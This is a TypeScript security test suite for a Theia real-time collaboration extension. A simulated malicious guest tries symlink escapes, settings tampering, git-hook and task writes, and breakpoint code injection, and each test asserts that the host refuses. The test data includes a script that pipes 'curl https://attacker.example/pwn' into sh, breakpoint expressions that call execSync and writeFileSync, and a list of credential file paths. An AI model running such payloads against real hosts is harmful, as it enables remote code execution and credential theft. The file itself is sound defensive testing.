/**
 * "The host is the only authority": attacks a security review ran against the built app, replayed by a
 * malicious guest speaking the protocol directly over a real coordination server, against the host's real
 * handlers (shared file system, co-editing, language requests, breakpoints) on real temp folders. The host's
 * features that live in the browser (FileService, Monaco, BreakpointManager) are stood in for by code that
 * follows links exactly as they do; what is under test is the one check they all call first: the backend's
 * `resolveForGuest`, and the common-side handlers with it injected.
 *
 * 4. links escaping through the editor, language and breakpoint paths; links created by copy and rename
 * 5. a guest switching the host's exclusions off through workspace settings
 * 6. a guest making the host run its code (git hooks, tasks, breakpoint conditions)
 * 7. common secrets missing from the default exclusions
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as Y from 'yjs';
import { FileUri } from '@theia/core/lib/common/file-uri';
import { Emitter as TheiaEmitter } from '@theia/core/lib/common/event';
import type { PreferenceChange, PreferenceInspection, PreferenceService } from '@theia/core/lib/common/preferences';
import { CollaborationClient, CollaborationError, CollaborationSession, Disposable, Emitter, Permission, Request } from '@theia-collab/protocol';
import { until } from '@theia-collab/test-kit';
import { ServerHandle, startServer } from '@theia-collab/server/lib/server';
import { nameRoots } from '../common/collaboration-uri';
import { BreakpointMessages, SharedBreakpoint } from '../common/debug/debug-breakpoint-protocol';
import { BreakpointHost, BreakpointStore } from '../common/debug/debug-breakpoint-sync';
import { EditorHost, HostDocumentSource } from '../common/editor/editor-host';
import { TEXT_NAME } from '../common/editor/editor-document';
import { EditorMessages, RejectedParams } from '../common/editor/editor-protocol';
import { registerFsRequestHandlers } from '../common/fs/fs-host-handlers';
import { FsMessages } from '../common/fs/fs-messages';
import { COLLABORATION_EXCLUDE_FILES, CollaborationFsConfiguration, CollaborationFsPreferenceSchema, sharingSettings } from '../common/fs/fs-preferences';
import { resolveGuestPath } from '../common/fs/guest-path-resolver';
import { DEFAULT_EXCLUDED_FILES } from '../common/fs/host-file-system-protocol';
import { HostCompletionList, HostLocation, LanguageHost, LanguageHostBackend } from '../common/language/language-host';
import { GuestPathMapper, hostUriOfWorkspacePath, withGuestResolver, workspacePathOfHostUri } from '../common/fs/host-path-mapper';
import { DocumentSymbol, HoverItem, SignatureHelp } from '../common/language/language-protocol';
import { createUserScopePreferenceProxy } from '../common/user-scope-preferences';
import { HostFileSystem } from './fs/host-file-system';

const OUTSIDE_SECRET = 'OUTSIDE-SECRET-4d1e';
const ENV_SECRET = 'ENV-SECRET-a7c2';
const HOOK_SAMPLE = '#!/bin/sh\n# sample hook, harmless\nexit 0\n';
const EVIL = '#!/bin/sh\ncurl https://attacker.example/pwn | sh\n';
const quiet = { info: () => undefined, warn: () => undefined, error: () => undefined };

type Outcome = { ok: true; value: unknown } | { ok: false; code: string; message: string };

async function attempt(session: CollaborationSession, method: string, params: unknown): Promise<Outcome> {
    try {
        return { ok: true, value: await session.sendRequest(Request.define(method), params, { timeout: 10_000 }) };
    } catch (error) {
        const { code, message } = CollaborationError.from(error);
        return { ok: false, code, message };
    }
}

function assertRefused(outcome: Outcome, codes: string[], what: string): void {
    assert.strictEqual(outcome.ok, false, `${what} must be refused, got ${JSON.stringify(outcome.ok ? outcome.value : undefined)?.slice(0, 200)}`);
    assert.ok(codes.includes((outcome as { code: string }).code), `${what}: '${(outcome as { code: string }).code}' is one of ${codes.join(', ')}: ${(outcome as { message: string }).message}`);
}

/** Everything a value contains, as text (binary as UTF-8), to look for leaked secrets. */
function textOf(value: unknown): string {
    if (value instanceof Uint8Array) {
        return Buffer.from(value).toString('utf8');
    }
    if (Array.isArray(value)) {
        return value.map(textOf).join('\n');
    }
    if (typeof value === 'object' && value !== null) {
        return Object.entries(value).map(([key, item]) => `${key}:${textOf(item)}`).join('\n');
    }
    return String(value);
}

/** A snapshot of every file and link below `dir` (links as their text), to show nothing changed. */
function snapshot(dir: string): Record<string, string> {
    const result: Record<string, string> = {};
    const walk = (current: string, prefix: string) => {
        for (const dirent of fs.readdirSync(current, { withFileTypes: true })) {
            const full = path.join(current, dirent.name);
            const name = prefix + dirent.name;
            if (dirent.isSymbolicLink()) {
                result[name] = `-> ${fs.readlinkSync(full)}`;
            } else if (dirent.isDirectory()) {
                result[name + '/'] = '';
                walk(full, name + '/');
            } else {
                result[name] = `${fs.readFileSync(full, 'utf8')} (mode ${(fs.statSync(full).mode & 0o777).toString(8)})`;
            }
        }
    };
    walk(dir, '');
    return result;
}

/**
 * The host's document source as the app's (browser/editor/editor-host-source.ts) works: every guest path is
 * resolved by the backend first, and the file is then read or written at the URI it answered, following links as
 * Theia's FileService does. `resolver: false` is the source as it was before (lexical visibility check only).
 */
function documentSource(hostFs: HostFileSystem, mapper: GuestPathMapper, resolver = true): HostDocumentSource {
    const lexical = async (workspacePath: string) => {
        if (!(await hostFs.filterVisible([workspacePath])).includes(workspacePath)) {
            throw new CollaborationError('not-found', `'${workspacePath}' is not shared.`);
        }
        return mapper.toHostUri(workspacePath)!;
    };
    const uriOf = (workspacePath: string, access: 'read' | 'write') => resolver ? resolveGuestPath(hostFs, workspacePath, access) : lexical(workspacePath);
    return {
        ...(resolver ? { checkGuestAccess: async (workspacePath: string, access: 'read' | 'write') => { await resolveGuestPath(hostFs, workspacePath, access); } } : {}),
        read: async workspacePath => fs.readFileSync(FileUri.fsPath(await uriOf(workspacePath, 'read')), 'utf8'),
        save: async (workspacePath, text) => {
            fs.writeFileSync(FileUri.fsPath(await uriOf(workspacePath, 'write')), text);
            return true;
        }
    };
}

/** Answers language requests from the file at the URI it is given, as a language server reading the host's disk would. */
class FileReadingBackend implements LanguageHostBackend {
    readonly touched: string[] = [];
    async hover(_params: unknown, _signal: AbortSignal, uri: string): Promise<HoverItem[]> {
        this.touched.push(uri);
        return [{ contents: [{ value: fs.readFileSync(FileUri.fsPath(uri), 'utf8') }] }];
    }
    async completion(): Promise<HostCompletionList | undefined> { return undefined; }
    async definition(): Promise<HostLocation[]> { return []; }
    async references(): Promise<HostLocation[]> { return []; }
    async signatureHelp(): Promise<SignatureHelp | undefined> { return undefined; }
    async documentSymbols(): Promise<DocumentSymbol[]> { return []; }
}

class MemoryBreakpointStore implements BreakpointStore {
    readonly breakpoints = new Map<string, SharedBreakpoint[]>();
    protected readonly emitter = new Emitter<string>();
    get(uri: string): SharedBreakpoint[] { return this.breakpoints.get(uri) ?? []; }
    set(uri: string, breakpoints: SharedBreakpoint[]): void {
        this.breakpoints.set(uri, breakpoints.map(bp => ({ ...bp })));
        this.emitter.fire(uri);
    }
    uris(): string[] { return [...this.breakpoints.keys()]; }
    onDidChange(listener: (uri: string) => void): Disposable { return this.emitter.event(listener); }
}

/**
 * Theia's PreferenceService as far as the host's sharing settings read it: default values from the schema, the
 * host's user settings, and the workspace folder's `.theia/settings.json` as Theia would load it from disk.
 */
class DiskPreferences implements Pick<PreferenceService, 'inspect' | 'onPreferenceChanged' | 'ready'> {
    readonly ready = Promise.resolve();
    protected readonly emitter = new TheiaEmitter<PreferenceChange>();
    readonly onPreferenceChanged = this.emitter.event;
    constructor(protected readonly user: Record<string, unknown>, protected readonly folderSettings: string) { }
    inspect<T>(name: string): PreferenceInspection<T> | undefined {
        let folder: Record<string, unknown> = {};
        try {
            folder = JSON.parse(fs.readFileSync(this.folderSettings, 'utf8'));
        } catch {
            folder = {};
        }
        const defaultValue = CollaborationFsPreferenceSchema.properties[name]?.default as T | undefined;
        const globalValue = this.user[name] as T | undefined;
        const workspaceFolderValue = folder[name] as T | undefined;
        return {
            preferenceName: name, defaultValue, globalValue, workspaceValue: undefined, workspaceFolderValue, sessionValue: undefined,
            value: workspaceFolderValue ?? globalValue ?? defaultValue
        } as unknown as PreferenceInspection<T>;
    }
}

describe('a malicious guest against the host\'s authority (links, settings, code execution, secrets)', function (): void {
    this.timeout(60_000);
    let server: ServerHandle;
    let base: string;
    let root: string;
    let outside: string;
    let hostFs: HostFileSystem;
    let mapper: GuestPathMapper;
    let host: CollaborationSession;
    const clients: CollaborationClient[] = [];
    const toDispose: Disposable[] = [];
    const permissions = new Map<string, Permission>();

    before(async () => {
        server = await startServer({
            hostname: '127.0.0.1', port: 0, logLevel: 'silent',
            loginRateLimit: { max: 10_000, windowMs: 60_000 }, joinRateLimit: { max: 10_000, windowMs: 60_000 }
        });
    });

    after(async () => {
        await server?.close();
    });

    /** A fresh host: `<tmp>/proj` shared with the default settings, `<tmp>/outside` next to it. */
    beforeEach(async () => {
        base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'collab-authority-')));
        root = path.join(base, 'proj');
        outside = path.join(base, 'outside');
        fs.mkdirSync(path.join(root, 'src'), { recursive: true });
        fs.mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
        fs.mkdirSync(outside);
        fs.writeFileSync(path.join(root, 'src', 'main.ts'), 'export const x = 1;\n');
        fs.writeFileSync(path.join(root, '.env'), `TOKEN=${ENV_SECRET}\n`);
        fs.writeFileSync(path.join(root, '.git', 'HEAD'), 'ref: refs/heads/main\n');
        fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit.sample'), HOOK_SAMPLE, { mode: 0o755 });
        fs.writeFileSync(path.join(outside, 'secret.txt'), OUTSIDE_SECRET);
        fs.writeFileSync(path.join(outside, 'target.txt'), 'outside, must stay as it is\n');
        hostFs = new HostFileSystem({ roots: [{ name: 'proj', path: root }], exclude: [...DEFAULT_EXCLUDED_FILES] });
        const roots = nameRoots([FileUri.create(root).toString()]);
        mapper = withGuestResolver({
            toWorkspacePath: uri => workspacePathOfHostUri(roots, uri),
            toHostUri: workspacePath => hostUriOfWorkspacePath(roots, workspacePath)?.toString(),
            filterVisible: paths => hostFs.filterVisible(paths)
        }, hostFs);
        const client = await CollaborationClient.connect({ serverUrl: server.url, name: 'Hosting Hana', logger: quiet });
        clients.push(client);
        host = await client.createSession();
        host.onJoinRequest(request => request.admit(permissions.get(request.name) ?? 'readonly'));
        toDispose.push(...registerFsRequestHandlers(host, hostFs));
    });

    afterEach(async () => {
        toDispose.splice(0).forEach(disposable => disposable.dispose());
        clients.splice(0).forEach(client => client.dispose());
        permissions.clear();
        await hostFs?.dispose();
        fs.rmSync(base, { recursive: true, force: true });
    });

    async function join(name: string, permission: Permission): Promise<CollaborationSession> {
        permissions.set(name, permission);
        const client = await CollaborationClient.connect({ serverUrl: server.url, name, logger: quiet });
        clients.push(client);
        const session = await client.joinSession(host.invite!.code);
        await until(() => host.getPeer(session.self.id) !== undefined, `the host sees ${name}`);
        return session;
    }

    function editorHost(resolver = true): EditorHost {
        const editor = new EditorHost(host, documentSource(hostFs, mapper, resolver), { logger: quiet });
        toDispose.push(editor);
        return editor;
    }

    /** The guest opens `workspacePath`, types `text` at the start and sends the change as a Yjs update. */
    async function openAndType(guest: CollaborationSession, workspacePath: string, text: string): Promise<void> {
        const opened = await guest.sendRequest(EditorMessages.Open, { path: workspacePath, stateVector: new Uint8Array(0) });
        const doc = new Y.Doc();
        if (opened.update) {
            Y.applyUpdate(doc, opened.update instanceof Uint8Array ? opened.update : new Uint8Array(opened.update as ArrayBuffer));
        }
        const before = Y.encodeStateVector(doc);
        doc.getText(TEXT_NAME).insert(0, text);
        await guest.sendNotification(EditorMessages.Update, { path: workspacePath, update: Y.encodeStateAsUpdate(doc, before) });
    }

    it('4. links: editor open/save, language requests and breakpoints are refused where a link leads out or to an excluded file; copy and rename cannot make such links', async () => {
        // Links the host's project happens to have (a checked-out repository may hold any).
        fs.symlinkSync('../../outside/secret.txt', path.join(root, 'src', 'leak.txt'));
        fs.symlinkSync('../.env', path.join(root, 'src', 'env-link'));
        fs.symlinkSync(path.join(outside, 'target.txt'), path.join(root, 'src', 'out-write.txt'));
        // Harmless where it is (→ proj/outside/secret.txt, a decoy inside the root), out once moved a level up.
        fs.mkdirSync(path.join(root, 'outside'));
        fs.writeFileSync(path.join(root, 'outside', 'secret.txt'), 'decoy inside the root\n');
        fs.mkdirSync(path.join(root, 'deep', 'd2'), { recursive: true });
        fs.symlinkSync('../../outside/secret.txt', path.join(root, 'deep', 'd2', 'lnk'));
        const outsideBefore = snapshot(outside);
        const editor = editorHost();
        const store = new MemoryBreakpointStore();
        const breakpoints = new BreakpointHost(host, store, mapper, { debounceMs: 20 });
        toDispose.push(breakpoints);
        breakpoints.start();
        const backend = new FileReadingBackend();
        const language = new LanguageHost(host, backend, mapper);
        toDispose.push(language);
        language.start();
        // The host itself has the escaping link open in its editor: the document is shared already.
        editor.acquireWithText('proj/src/leak.txt', OUTSIDE_SECRET);

        const reader = await join('Rita Reader', 'readonly');
        const writer = await join('Mallory Writer', 'readwrite');
        const leaks: string[] = [];
        for (const [guest, who] of [[reader, 'read-only'], [writer, 'read-write']] as const) {
            for (const sneaky of ['proj/src/leak.txt', 'proj/src/env-link', 'proj/src/out-write.txt']) {
                const opened = await attempt(guest, 'editor/open', { path: sneaky, stateVector: new Uint8Array(0) });
                assertRefused(opened, ['forbidden', 'not-found'], `${who} editor/open ${sneaky}`);
                const hover = await attempt(guest, 'language/hover', { path: sneaky, position: { lineNumber: 1, column: 1 } });
                assertRefused(hover, ['forbidden', 'not-found'], `${who} language/hover ${sneaky}`);
                for (const outcome of [opened, hover]) {
                    if (outcome.ok && new RegExp(`${OUTSIDE_SECRET}|${ENV_SECRET}`).test(textOf(outcome.value))) {
                        leaks.push(`${who} ${sneaky}`);
                    }
                }
            }
        }
        assert.deepStrictEqual(leaks, []);
        assert.deepStrictEqual(backend.touched, [], 'no file was handed to the language service');
        const setBreakpoint = await attempt(writer, BreakpointMessages.Set.method, { path: 'proj/src/env-link', breakpoints: [{ id: 'b1', line: 1, enabled: true }] });
        assertRefused(setBreakpoint, ['forbidden', 'not-found'], 'breakpoints in a link to .env');
        assert.deepStrictEqual(store.uris(), []);
        // What the host announces (per-file state: breakpoints, diagnostics) is filtered where the links lead, too.
        store.set(mapper.toHostUri('proj/src/env-link')!, [{ id: 'h1', line: 1, enabled: true }]);
        store.set(mapper.toHostUri('proj/src/leak.txt')!, [{ id: 'h2', line: 1, enabled: true }]);
        store.set(mapper.toHostUri('proj/src/main.ts')!, [{ id: 'h3', line: 1, enabled: true }]);
        const page = await reader.sendRequest(BreakpointMessages.All, {});
        assert.deepStrictEqual(page.files.map(file => file.path), ['proj/src/main.ts']);
        assert.deepStrictEqual(await hostFs.filterVisible(['proj/src/leak.txt', 'proj/src/env-link', 'proj/src/out-write.txt', 'proj/src/main.ts', 'proj/src/gone.ts']),
            ['proj/src/main.ts', 'proj/src/gone.ts'], 'a link is judged where it leads; a path that is gone by its name');

        // A read-write guest opens an honest file, and it is swapped for a link before the save: checked again, refused.
        const opened = await writer.sendRequest(EditorMessages.Open, { path: 'proj/src/main.ts', stateVector: new Uint8Array(0) });
        assert.ok(opened.generation);
        fs.renameSync(path.join(root, 'src', 'main.ts'), path.join(root, 'src', 'main.ts.orig'));
        fs.symlinkSync(path.join(outside, 'target.txt'), path.join(root, 'src', 'main.ts'));
        assertRefused(await attempt(writer, 'editor/save', { path: 'proj/src/main.ts' }), ['forbidden'], 'saving through a swapped-in link');

        // Copy and rename: a relative link is judged at its new place.
        const before = snapshot(root);
        assertRefused(await attempt(writer, 'fs/rename', { from: 'proj/deep/d2/lnk', to: 'proj/deep/lnk', overwrite: false }), ['forbidden'], 'moving a link up a level');
        assertRefused(await attempt(writer, 'fs/rename', { from: 'proj/deep/d2', to: 'proj/d2moved', overwrite: false }), ['forbidden'], 'moving a folder holding the link');
        assertRefused(await attempt(writer, 'fs/copy', { from: 'proj/deep/d2', to: 'proj/d2copy', overwrite: false }), ['forbidden'], 'copying a folder holding the link');
        assert.deepStrictEqual(snapshot(root), before, 'no link was created or moved');
        assert.ok(!fs.existsSync(path.join(root, 'deep', 'lnk')) && !fs.existsSync(path.join(root, 'd2copy')) && !fs.existsSync(path.join(root, 'd2moved')));
        // Where it still leads inside, a link may be moved.
        assert.deepStrictEqual(await writer.sendRequest(FsMessages.Rename, { from: 'proj/deep/d2/lnk', to: 'proj/deep/d2/lnk2', overwrite: false }), {});
        assert.strictEqual(fs.readlinkSync(path.join(root, 'deep', 'd2', 'lnk2')), '../../outside/secret.txt');

        assert.deepStrictEqual(snapshot(outside), outsideBefore, 'nothing outside the root changed');
        assert.strictEqual(fs.readFileSync(path.join(outside, 'target.txt'), 'utf8'), 'outside, must stay as it is\n');
    });

    it('5. a guest cannot switch the exclusions off: .theia/settings.json is read-only, and folder settings are never read for collaboration.*', async () => {
        const writer = await join('Mallory Writer', 'readwrite');
        const settingsFile = path.join(root, '.theia', 'settings.json');
        const evil = Buffer.from(JSON.stringify({ [COLLABORATION_EXCLUDE_FILES]: [] }));
        assertRefused(await attempt(writer, 'fs/mkdir', { path: 'proj/.theia' }), ['forbidden'], 'creating .theia');
        fs.mkdirSync(path.join(root, '.theia'));
        assertRefused(await attempt(writer, 'fs/writeFile', { path: 'proj/.theia/settings.json', data: evil, create: true, overwrite: true }),
            ['forbidden'], 'writing .theia/settings.json');
        assertRefused(await attempt(writer, 'fs/writeFile', { path: 'proj/.vscode/settings.json', data: evil, create: true, overwrite: true }),
            ['forbidden', 'not-found'], 'writing .vscode/settings.json');
        assert.ok(!fs.existsSync(settingsFile), 'no settings file was written');

        // Even when the folder says so (written before, by anyone), the host configures its file system from its user settings only.
        fs.writeFileSync(settingsFile, JSON.stringify({ [COLLABORATION_EXCLUDE_FILES]: [], 'collaboration.readOnlyFiles': [] }));
        fs.writeFileSync(path.join(root, 'private.txt'), 'the host hides this one itself\n');
        const preferences = createUserScopePreferenceProxy<CollaborationFsConfiguration>(
            new DiskPreferences({ [COLLABORATION_EXCLUDE_FILES]: [...DEFAULT_EXCLUDED_FILES, '**/private.txt'] }, settingsFile), CollaborationFsPreferenceSchema);
        // As FsHostShare.reconfigure does.
        const settings = sharingSettings(preferences);
        hostFs.configure({ roots: [{ name: 'proj', path: root }], ...settings });
        assert.ok(settings.exclude.includes('**/.env'), 'the exclusions are the host\'s');
        assert.ok(settings.readOnly.includes('**/.theia'), 'so are the read-only files');
        assertRefused(await attempt(writer, 'fs/readFile', { path: 'proj/.env', offset: 0, length: 1024 }), ['not-found'], 'reading .env');
        assertRefused(await attempt(writer, 'fs/readFile', { path: 'proj/private.txt', offset: 0, length: 1024 }), ['not-found'], 'reading the user-excluded file');
        const listing = await writer.sendRequest(FsMessages.Readdir, { path: 'proj' });
        assert.deepStrictEqual(listing.entries.map(entry => entry.name).filter(name => name === '.env' || name === 'private.txt'), []);
        assertRefused(await attempt(writer, 'fs/delete', { path: 'proj/.theia/settings.json', recursive: false }), ['forbidden'], 'deleting the folder settings');
        assert.ok(fs.existsSync(settingsFile));
        assert.strictEqual(fs.readFileSync(path.join(root, '.env'), 'utf8'), `TOKEN=${ENV_SECRET}\n`);
    });

    it('6. a read-write guest cannot make the host run its code: .git/.theia/.vscode/.idea are read-only, breakpoint expressions are stripped', async () => {
        fs.mkdirSync(path.join(root, 'vendor', 'lib', '.git', 'hooks'), { recursive: true });
        fs.writeFileSync(path.join(root, 'vendor', 'lib', '.git', 'hooks', 'post-checkout'), HOOK_SAMPLE);
        fs.symlinkSync('../.git/hooks', path.join(root, 'src', 'hooks'));
        fs.mkdirSync(path.join(root, '.vscode'));
        fs.writeFileSync(path.join(root, '.vscode', 'tasks.json'), '{ "version": "2.0.0", "tasks": [] }\n');
        const editor = editorHost();
        const store = new MemoryBreakpointStore();
        const breakpoints = new BreakpointHost(host, store, mapper, { debounceMs: 20 });
        toDispose.push(breakpoints);
        breakpoints.start();
        const writer = await join('Mallory Writer', 'readwrite');
        const evil = Buffer.from(EVIL);
        await writer.sendRequest(FsMessages.WriteFile, { path: 'proj/evil.sh', data: evil, create: true, overwrite: false });
        assert.strictEqual(fs.readFileSync(path.join(root, 'evil.sh'), 'utf8'), EVIL, 'an ordinary file can be written');
        const before = snapshot(root);

        const attacks: [string, unknown][] = [
            ['fs/writeFile', { path: 'proj/.git/hooks/pre-commit.sample', data: evil, create: false, overwrite: true }],
            ['fs/writeFile', { path: 'proj/.git/hooks/pre-commit', data: evil, create: true, overwrite: false }],
            ['fs/writeFile/begin', { path: 'proj/.git/hooks/post-checkout', size: evil.byteLength, create: true, overwrite: true }],
            ['fs/writeFile', { path: 'proj/src/hooks/pre-commit', data: evil, create: true, overwrite: false }],
            ['fs/rename', { from: 'proj/.git/hooks/pre-commit.sample', to: 'proj/.git/hooks/pre-commit', overwrite: false }],
            ['fs/rename', { from: 'proj/evil.sh', to: 'proj/.git/hooks/pre-commit', overwrite: false }],
            ['fs/rename', { from: 'proj/evil.sh', to: 'proj/src/hooks/pre-commit', overwrite: false }],
            ['fs/copy', { from: 'proj/evil.sh', to: 'proj/.git/hooks/pre-commit', overwrite: true }],
            ['fs/copy', { from: 'proj/vendor/lib', to: 'proj/lib2', overwrite: false }],
            ['fs/rename', { from: 'proj/vendor', to: 'proj/vendor2', overwrite: false }],
            ['fs/delete', { path: 'proj/.git/hooks/pre-commit.sample', recursive: false }],
            ['fs/delete', { path: 'proj/.git', recursive: true }],
            ['fs/delete', { path: 'proj/vendor', recursive: true }],
            ['fs/mkdir', { path: 'proj/.idea' }],
            ['fs/mkdir', { path: 'proj/src/.git' }],
            ['fs/writeFile', { path: 'proj/.vscode/tasks.json', data: evil, create: true, overwrite: true }],
            ['fs/delete', { path: 'proj/.vscode', recursive: true }],
            ['fs/writeFile', { path: 'proj/.idea/workspace.xml', data: evil, create: true, overwrite: true }],
            ['fs/rename', { from: 'proj/evil.sh', to: 'proj/.theia', overwrite: true }]
        ];
        for (const [method, params] of attacks) {
            assertRefused(await attempt(writer, method, params), ['forbidden', 'not-found'], `${method} ${JSON.stringify(params).slice(0, 120)}`);
        }
        // Through the editor: the hook can be read, but changes are refused and it cannot be saved.
        const rejected: RejectedParams[] = [];
        toDispose.push(writer.onNotification(EditorMessages.Rejected, params => rejected.push(params)));
        await openAndType(writer, 'proj/.git/hooks/pre-commit.sample', EVIL);
        await until(() => rejected.length > 0, 'the host refuses the change');
        assert.strictEqual(rejected[0].code, 'forbidden');
        assert.doesNotMatch(editor.get('proj/.git/hooks/pre-commit.sample')!.text.toString(), /attacker/);
        assertRefused(await attempt(writer, 'editor/save', { path: 'proj/.git/hooks/pre-commit.sample' }), ['forbidden'], 'saving the hook');
        // A read-only guest that opened a task file and is given write access later is refused as well.
        const promoted = await join('Pete Promoted', 'readonly');
        const promotedRejections: RejectedParams[] = [];
        toDispose.push(promoted.onNotification(EditorMessages.Rejected, params => promotedRejections.push(params)));
        const openedHook = await promoted.sendRequest(EditorMessages.Open, { path: 'proj/.vscode/tasks.json', stateVector: new Uint8Array(0) });
        const hookDoc = new Y.Doc();
        Y.applyUpdate(hookDoc, new Uint8Array(openedHook.update as Uint8Array));
        await host.setPermission(promoted.self.id, 'readwrite');
        await until(() => host.getPeer(promoted.self.id)?.permission === 'readwrite', 'the guest may write');
        // No new open: the change goes straight to the document it opened while read-only.
        const hookBefore = Y.encodeStateVector(hookDoc);
        hookDoc.getText(TEXT_NAME).insert(0, EVIL);
        await promoted.sendNotification(EditorMessages.Update, { path: 'proj/.vscode/tasks.json', update: Y.encodeStateAsUpdate(hookDoc, hookBefore) });
        await until(() => promotedRejections.length > 0, 'the host refuses the promoted guest\'s change');
        assert.strictEqual(promotedRejections[0].code, 'forbidden');
        assert.doesNotMatch(editor.get('proj/.vscode/tasks.json')!.text.toString(), /attacker/);
        assert.deepStrictEqual(snapshot(root), before, 'nothing in the project changed, .git/hooks included');
        assert.ok(!fs.existsSync(path.join(root, '.git', 'hooks', 'pre-commit')));

        // Breakpoints: the host's own conditional breakpoint keeps its expression; the guest's expressions are dropped.
        const mainUri = mapper.toHostUri('proj/src/main.ts')!;
        store.set(mainUri, [{ id: 'host-1', line: 1, enabled: true, condition: 'x > 1' }]);
        await writer.sendRequest(BreakpointMessages.Set, {
            path: 'proj/src/main.ts', breakpoints: [
                { id: 'host-1', line: 1, enabled: true, condition: 'x > 1' },
                { id: 'guest-1', line: 2, enabled: true, condition: 'require("child_process").execSync("id") && false' },
                { id: 'guest-2', line: 3, enabled: true, hitCondition: '>0', logMessage: '{process.mainModule.require("fs").writeFileSync("/tmp/p","")}' },
                { id: 'host-1b', line: 4, enabled: true, logMessage: 'changed by the guest' }
            ]
        });
        assert.deepStrictEqual(store.get(mainUri), [
            { id: 'host-1', line: 1, enabled: true, condition: 'x > 1' },
            { id: 'guest-1', line: 2, enabled: true },
            { id: 'guest-2', line: 3, enabled: true },
            { id: 'host-1b', line: 4, enabled: true }
        ]);
    });

    it('7. the default exclusions hide common secrets at any depth; what is next to them stays shared', async () => {
        const secrets = [
            '.git/config', '.npmrc', 'pkg/.npmrc', '.pypirc', '.netrc', 'id_rsa', 'id_rsa.pub', 'keys/id_ed25519', 'keys/id_ed25519.pub',
            'certs/server.pem', 'server.key', 'cert.p12', 'cert.pfx', '.aws/credentials', 'sub/.aws/config', '.ssh/config', 'home/.ssh/id_x',
            '.docker/config.json', 'vault.kdbx', 'deep/er/store.kdbx', '.env.production'
        ];
        for (const secret of secrets) {
            fs.mkdirSync(path.dirname(path.join(root, secret)), { recursive: true });
            fs.writeFileSync(path.join(root, secret), `SECRET in ${secret}: https://user:ghp_token@example.com\n`);
        }
        fs.writeFileSync(path.join(root, '.docker', 'Dockerfile.dev'), 'FROM node\n');
        const editor = editorHost();
        assert.ok(editor);
        const reader = await join('Rita Reader', 'readonly');
        for (const secret of secrets) {
            const read = await attempt(reader, 'fs/readFile', { path: `proj/${secret}`, offset: 0, length: 1024 });
            assertRefused(read, ['not-found'], `reading ${secret}`);
            assertRefused(await attempt(reader, 'fs/stat', { path: `proj/${secret}` }), ['not-found'], `stat of ${secret}`);
            assertRefused(await attempt(reader, 'editor/open', { path: `proj/${secret}`, stateVector: new Uint8Array(0) }), ['not-found'], `editor/open ${secret}`);
        }
        for (const folder of ['proj', 'proj/pkg', 'proj/keys', 'proj/.git', 'proj/home', 'proj/.docker']) {
            const listing = await reader.sendRequest(FsMessages.Readdir, { path: folder });
            const names = listing.entries.map(entry => `${folder}/${entry.name}`.replace(/^proj\//, ''));
            const hiddenFolders = ['.aws', 'sub/.aws', '.ssh', 'home/.ssh'];
            assert.deepStrictEqual(names.filter(name => secrets.includes(name) || hiddenFolders.includes(name)), [], `listing of ${folder}`);
        }
        assert.deepStrictEqual(await hostFs.filterVisible(secrets.map(secret => `proj/${secret}`)), []);
        // Next to them, ordinary files stay shared.
        for (const shared of ['proj/.git/HEAD', 'proj/.docker/Dockerfile.dev', 'proj/src/main.ts']) {
            const read = await reader.sendRequest(FsMessages.ReadFile, { path: shared, offset: 0, length: 1024 });
            assert.ok(read.size > 0, `${shared} is shared`);
        }
    });
});
